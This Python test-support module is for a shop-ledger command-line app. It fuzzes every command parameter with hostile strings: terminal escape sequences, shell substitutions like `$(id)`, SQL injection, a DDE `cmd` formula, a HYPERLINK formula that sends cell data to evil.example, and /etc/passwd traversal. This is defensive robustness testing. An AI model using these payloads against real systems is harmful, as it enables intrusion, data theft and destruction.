"""What strangers write into a shop's books: strings that harm a careless program, and every place to type them.

The places are found by walking the commands, so that a new one is covered by itself. `tests/samples/blns.json` is the
Big List of Naughty Strings; the strings here are our own, for what that list does not know of a terminal, a
spreadsheet and a ledger.
"""

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

from test_house import COMMANDS

from olcrm.kit.options import Reading

BLNS = Path(__file__).parent / "samples" / "blns.json"

OWN = (
    # a terminal: title, clearing, colour, link, clipboard, device control, report, reset, the one-byte kinds of these
    "\x1b]0;title\x07Rina\x1b[2J\x1b[H\x1b[31mred\x1b[?1049h\x1b[6n\x1bc",
    "\x1b]8;;https://evil.example\x1b\\klik\x1b]8;;\x1b\\ \x1b]52;c;cm0=\x07 \x1bP1;1|17/ab\x1b\\",
    "\x9b31m\x9d0;x\x9c bell\x07 back\x08\x08\x08 del\x7f",
    "Rina\rBUDI LUNAS",
    "Rina\nTOTAL: Rp0\n\nlunas",
    "vt\x0bff\x0cfs\x1cgs\x1drs\x1eus\x1fnel\x85",
    # turned around, invisible, joined, half
    "\u202egnp.exe\u202c \u2066x\u2069 \u061c \u200e",
    "zero\u200bwidth\u200d\ufeff \u00ad \u2060 tag\U000e0041",
    "lines\u2028and\u2029paragraphs",
    "nul\0byte",
    "half \ud83d of a letter",
    "Z\u0351\u036b\u0343\u036a\u0302 " + "\u0300" * 200,
    "👩‍👩‍👧‍👦 🇮🇩 ꦗꦮ ﷺ 店 ı İ ß ǅ ﬃ e\u0301",
    # rich, templates, formats, shells
    "[red]Rina[/] [/] [bold [link=https://evil.example]x[/link] [@click=app.bell]y[/] \\[",
    "[/]",
    ":smile: {name} {0.__class__} %s %d %(x)s $HOME ${name} $name $ $$ `id` $(id)",
    "{{7*7}} {% for x in y %} <%= 7 %> #{7} <script>alert(1)</script> &amp; {nama!r:>{x}}",
    # a spreadsheet
    *(
        "=1+1",
        "+62-1",
        "-Toko Murah-",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "'=1",
        "''x",
        "'",
    ),
    '=HYPERLINK("https://evil.example?x="&A1,"klik")',
    '"=1+1";=2,=3\t=4',
    # a ledger, and the search in it
    "'; DROP TABLE contact; --",
    "' OR 1=1 --",
    '" OR ""="',
    "NEAR(a b, 2) AND OR NOT * ^ : ( ) {a b}: -x +y name:z",
    '"',
    "%_\\",
    # a disk
    *("../../../etc/passwd", "/etc/passwd", "a/b\\c", "CON", "~root", ".", ".."),
    # a command line
    *("-rf", "--help", "--json", "--", "-1", "---"),
    # numbers that are none, or more than one
    *("²", "٢٠", "1e5", "9" * 19, "9" * 5000, "0x10", "inf", "NaN", "1_000", "００１"),
    # nothing, blanks, much
    *("", " ", "\u3000", "\u00a0", " vorn", "hinten ", "x" * 300, "x" * 10_000, "x" * 10_001, "kata " * 1_999),
)
"""Each is put through every place; what is alike stands in one string where none can hide the other."""


# Of these, each place is given every one; of all others, those that its turn brings.
STRONG = (
    "\x1b]0;t\x07\x1b[2J\x1b[31m\x9b1m\u202e\u2066\u200b[/][bold][link=x]:smile: {name} {0.__class__} %s $x {{7*7}}",
    "=cmd|' /C calc'!A0",
    "'\"; DROP TABLE contact; -- NEAR( * : ^ AND x:y",
    "Rina\r\nLUNAS\rx\u2028\u2029\x0b\x0c\x1c\x85",
    "half \ud83d",
    "²" + "9" * 5000,
)


def naughty() -> list[str]:
    """The Big List of Naughty Strings."""
    strings: list[str] = json.loads(BLNS.read_text(encoding="utf-8"))
    return strings


# What stands for a word in usage lines, with one that can be read in the shop below. Others are taken for a text.
GOOD = {
    "ACCOUNT": "BCA 1234567890 a.n. Ani",
    "BIRTHDAY": "17/8/1990",
    "BY": "",
    "CHANGE": "+1",
    "CONTACT": "1",
    "CONTACT|#ORDER": "1",
    "COURIER": "jne",
    "COURIER|RESI": "jne",
    "DATE": "2026-11-22",
    "DAYS": "7",
    "EMAIL": "a@example.com",
    "ERRAND": "1",
    "FEAST": "lebaran",
    "[FEAST]": "lebaran",
    "[CLOSURE]": "1",
    "YEAR": "2027",
    "FEAST...": "lebaran",
    "FROM": "besok",
    "ITEM": "2x Gamis @150rb",
    "ITEM...": "2x Gamis @150rb",
    "KEY": "shop",
    "LINE": "1",
    "MONEY": "10rb",
    "N": "5",
    "NO": "1",
    "ORDER": "1",
    "ORDER|CONTACT": "1",
    "ORDER|RESI": "4",
    "ORDER|RESI...": "4",
    "ORDER|due:ID": "1",
    "RESI": "CGK1234567899",
    "WHAT...": "photo",
    "[ITEM...]": "Bros @75rb",
    "[CONTACT|#ORDER]": "1",
    "[CONTACT]": "1",
    "[DATE]": "besok",
    "[ORDER...]": "2",
    "[ORDER|RESI...]": "4",
    "[ORDER|RESI]": "4",
    "[RESI]": "CGK1234567899",
    "[UNTIL]": "lusa",
    "PHONE": "081234567899",
    "ITEM=MONEY": "Bros=15rb",
    "SKU": "GM",
    "STARS": "2",
    "SPAN": "3d",
    "STANDING": "new",
    "TAG": "grosir",
    "WEIGHT": "250g",
    "[TEXT]": "",
    "due:ID": "due:2",
    "id|en": "en",
}
OTHER = {
    "contact channel add kind": "line",
    "contact channel remove kind": "phone",
    "contact channel remove value": "081234567890",
    "contact address remove contact": "2",
    "contact address remove address": "1",
    "contact size set what": "gamis",
    "contact list sort": "name",
    "report sales by": "month",
    "order list status": "kept",
    "due add kind": "loan",
    "due list kind": "errand",
    "template check name": "birthday",
    "import contacts file": "people.csv",
    "import orders file": "orders.csv",
    "import chat file": "Chat WhatsApp dengan Siti.txt",
    "import chat me": "Toko Ani",
    "import contacts map": "name=name",
    "import orders map": "contact=contact",
    "import show number": "1",
    "config account remove number": "1234567890",
    "closure remove number": "1",
    "init time_zone": "WITA",
    "backup restore file": "2026-11-22",
    "pay refund target": "2",
    "order release order": "2",
    "order cancel order": "2",
    "contact edit referred_by": "2",
    "product edit sku": "GL",
    "paste file": "form.txt",
    "paste show order": "3",
    "parcel ship order": "5",
    "complaint add kind": "late",
    "complaint list kind": "late",
    "complaint edit kind": "late",
    "complaint reopen number": "2",
    "complaint update what": "Sudah ditanyakan.",
    "ask answer words": "Masih ada kak.",
    "ask bought order": "5",
    "ask done ask": "2",
    "ask edit ask": "3",
    "ask visit words": "lihat sprei",
    "parcel unpack parcel": "5",
    "undo change": "11",
    "config set value": "Toko",
    "order status stage": "making",
    "template edit name": "birthday",
    "template preview name": "birthday",
    "template show name": "birthday",
    "template reset name": "birthday",
    "reply key": "kosong",
    "reply add key": "cod",
    "reply add words": "COD bisa.",
    "reply edit key": "grosir",
    "reply remove key": "grosir",
    "note show number": "1",
    "note remove number": "1",
    "pay void payment": "1",
    "claim open order": "4",
    "claim back claim": "2",
    "claim exchange claim": "2",
    "claim refund claim": "2",
    "claim repaired claim": "2",
    "claim say claim": "2",
    "claim policy preset name": "30-hari",
    "claim policy show name": "3-hari",
    "claim policy edit name": "3-hari",
    "claim policy end name": "3-hari",
    "follow rate order": "6",
    "contact circle edit name": "1",
    "contact circle remove name": "1",
    "member add contact": "2",
    "offer list size": "gamis=M",
    "match-buyers product": "GM",
    "raffle draw name": "Lebaran",
    "raffle draw places": "1",
}
FRAMES = {
    "order add item": ("{}", "2x {} @150rb"),
    "claim exchange item": ("2x {} @150rb",),
    "order edit --add": ("2x {} @150rb",),
    "order edit --item": ("2x {} @150rb",),
    "template edit --text": ("{}", "{{greeting}} {}"),
    "reply add words": ("{}", "{{greeting}} {}"),
    "reply edit --text": ("{}", "{{greeting}} {}"),
    "contact find words": ("{}", "rina {}"),
}
ALONG = {
    "contact pause": ["--until=besok", "--because=sakit"],
    "contact edit": ["--city=Bogor"],
    "remind snooze": ["--because=gajian"],
    "order edit": ["--note=ya"],
    "claim open": ["--wants=exchange", "--reason=size"],
    "claim decide": ["--no", "--because=ya"],
    "claim edit": ["--wants=refund"],
    "claim end": ["--because=ya"],
    "claim policy add": ["--basis=paid", "--days=3", "--grants=refund"],
    "claim policy edit": ["--days=9"],
    "ask drop": ["--because=jauh"],
    "contact circle edit": ["--note=ya"],
    "gift edit": ["--worth=5rb"],
    "member edit": ["--on=kemarin"],
    "ask edit": ["--next=besok"],
    "order add --via": ["--dp=10rb"],
    "order again --via": ["--dp=10rb"],
    "order cancel": ["--because=batal", "--refund"],
    "order release": ["--refund"],
    "pay void": ["--because=salah"],
    "due cancel": ["--because=batal"],
    "due edit": ["--memo=sabun"],
    "errand edit": ["--what=tas"],
    "errand add --via": ["--dp=10rb"],
    "errand not-found": ["--as-credit"],
    "template edit": ["--text=Halo {greeting}"],
    "parcel edit": ["--note=ya"],
    "complaint close": ["--outcome=beres", "--cause=keliru"],
    "complaint edit": ["--on=2026-11-20"],
    "template edit --file": [],
    "reply edit": ["--text=Halo {greeting}"],
    "reply edit --file": [],
    "offer list": ["--name=lebaran", "--say=Gamis baru."],
    "import contacts": ["--yes"],
    "import chat": ["--yes"],
    "import orders": ["--yes", "--map=date=date", "--map=total=total", "--map=contact=contact"],
    "import orders --map": ["--yes"],
    "paste": ["--file=form.txt", "--yes", "--again"],
    "undo": ["--yes"],
    "backup restore": ["--dry-run"],
}


CHAT = "20/11/26 18.01 - Siti: ready kak?\n20/11/26 18.05 - Toko Ani: Ready kak\n"


class Place(NamedTuple):
    """Somewhere a text can be typed: the command's words, the parameter, and a line with a gap for it."""

    words: str
    param: Any
    command: Any

    @property
    def name(self) -> str:
        return f"{self.words} {self.param.opts[0]}"

    def lines(self, text: str, *more: str) -> Iterator[list[str]]:
        """Whole lines with ``text`` typed here, alone or where it stands in something, and what is needed elsewhere."""
        for frame in FRAMES.get(self.name, ("{}",)):
            yield line(self.words, self.command, {self.param.name: frame.format(text)}, *more)

    @property
    def names_a_file(self) -> bool:
        return "FILE" in (self.param.metavar or "") or "PATH" in (self.param.metavar or "")


def line(words: str, command: Any, typed: dict[str, str], *more: str) -> list[str]:
    """A line for ``command`` with ``typed`` by parameter; its other arguments are ones that can be read."""
    options, arguments = [], []
    stated = {option.partition("=")[0] for option in more}
    for param in command.params:
        if param.param_type_name == "argument":
            arguments.append(typed.get(param.name, _good(words, param)))
        elif param.name in typed:
            options.append(f"{param.opts[0]}={typed[param.name]}")
            stated.add(param.opts[0])
    along = next((ALONG[key] for key in (*(f"{words} {option}" for option in stated), words) if key in ALONG), [])
    along = [option for option in along if option.partition("=")[0] not in stated]
    return [*words.split(), *options, *along, *more, "--", *arguments]


def _good(words: str, param: Any) -> str:
    return OTHER.get(f"{words} {param.name}", GOOD.get(param.metavar, "Rina"))


def places() -> list[Place]:
    """Every argument and option of every command that takes a text, or what is read out of one."""
    return [
        Place(words, param, command)
        for words, command in COMMANDS
        for param in command.params
        if param.param_type_name == "argument" or not (param.is_flag or param.count)
    ]


def readers() -> Iterator[tuple[str, list[str]]]:
    """Every reading command as it is typed in the shop, alone and with each of its switches."""
    for words, command in COMMANDS:
        if isinstance(command, Reading):
            yield words, line(words, command, {})
            for param in command.params:
                if getattr(param, "is_flag", False) and param.name not in (
                    "json",
                    "csv",
                    "plain",
                    "all",
                    "help",
                    "send",
                    "all_sent",
                ):
                    yield f"{words} {param.opts[0]}", line(words, command, {}, param.opts[0])


COMMANDING = re.compile(
    "[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
)


def commanding(shown: str) -> str:
    """What in ``shown`` a terminal would obey or hide, with its surroundings; empty when there is nothing."""
    found = COMMANDING.search(shown)
    return shown[max(found.start() - 30, 0) : found.end() + 30] if found else ""


# Reading commands that answer with a text to be sent, whatever the form.
WORDY = (
    *("order invoice", "due statement", "reply", "template show", "template preview", "config get"),
    *("contact export", "parcel pack", "parcel label", "parcel tell", "claim say", "member form"),
)


def write_files() -> None:
    """The files that the lines name, where we are."""
    Path("Chat WhatsApp dengan Siti.txt").write_text(CHAT, encoding="utf-8")
    Path("people.csv").write_text("name,phone\nSiti,081234567892\n", encoding="utf-8")
    form = "Nama: Siti\nHP: 081234567892\nPesanan: Bros @15rb\n"
    Path("form.txt").write_text(form, encoding="utf-8")
    Path("orders.csv").write_text("contact,date,total\nSiti,2026-11-01,50000\n", encoding="utf-8")


def open_shop(run: Callable[..., Any]) -> None:
    """A shop with one of everything, so that every command has something to work on."""
    for typed in (
        ["init", "--shop", "Toko Ani", "--account", "BCA 1234567890 a.n. Ani", "--yes"],
        ["contact", "add", "Rina Wati", "--phone", "081234567890", "--birthday", "22/11/1990", "--tag", "grosir"],
        ["contact", "add", "Budi", "--phone", "081234567891", "--celebrates", "natal", "--address", "Jl. Melati 1"],
        ["contact", "size", "set", "1", "gamis", "M"],
        ["order", "add", "1", "2x Gamis M @150rb", "--on", "2026-11-18", "--note", "cepat", "--address", "Jl. Mawar 2"],
        ["due", "add", "1", "50rb", "titip sabun", "--by", "2026-11-20", "--on", "2026-11-10"],
        ["order", "add", "2", "Sprei @250rb", "--dp", "100rb", "--via", "bca"],
        ["pay", "add", "2", "10rb"],
        ["note", "add", "1", "suka pastel"],
        ["note", "add", "#1", "bungkus kado"],
        ["import", "contacts", "people.csv", "--yes"],
        ["message", "add", "1", "halo"],
        ["product", "add", "GM", "Kebaya", "--stock", "99"],
        ["product", "add", "GL", "Kutubaru"],
        ["wait", "add", "2", "Tas Rotan"],
        ["errand", "add", "1", "kue lapis", "--dp", "20rb"],
        ["closure", "add", "24/12", "--because", "Natal"],
        ["reply", "add", "grosir", "Grosir mulai 12 pcs."],
        ["terms", "add", "Retur paling lambat 3 hari setelah diterima.", "--heading", "return"],
        ["paste", "--file", "form.txt", "--yes"],
        ["order", "add", "2", "Tas @75rb", "--cod", "--address", "Jl. Kenanga 5, Solo"],
        ["parcel", "ship", "4", "jne", "CGK1234567890"],
        ["order", "add", "1", "Bros @15rb", "--dp", "15rb", "--address", "Jl. Mawar 2"],
        ["parcel", "pack", "5"],
        ["complaint", "add", "1", "late", "Belum sampai"],
        ["complaint", "add", "1", "late", "Belum sampai juga"],
        ["complaint", "close", "2", "--outcome", "sampai", "--cause", "hujan"],
        ["ask", "add", "1", "Ready kak?", "--objection", "price"],
        ["ask", "visit", "2", "besok", "lihat sprei"],
        ["ask", "about", "1", "ujian anaknya"],
        ["order", "add", "2", "Pashmina @55rb", "--on", "2026-11-15"],
        ["order", "status", "6", "shipped"],
        ["order", "status", "6", "arrived"],
        ["config", "set", "follow.arrived-days", "0"],
        ["claim", "policy", "preset", "3-hari"],
        ["claim", "open", "6", "--wants", "repair", "--reason", "size", "--no-complaint"],
        ["claim", "open", "6", "--wants", "exchange", "--reason", "size", "--no-complaint"],
        ["claim", "decide", "2", "--yes"],
        ["gift", "add", "1", "mug", "--worth", "50rb"],
        ["contact", "circle", "add", "1", "Ibu Sari", "--relation", "ibu", "--day", "1/12", "--remind"],
        ["member", "add", "1", "--on", "2026-11-01"],
        ["note", "add", "--journal", "capek"],
        ["raffle", "draw", "Undian", "--seed", "IHSG 7.421"],
    ):
        result = run(typed)
        assert result.status == 0, (typed, result.err)
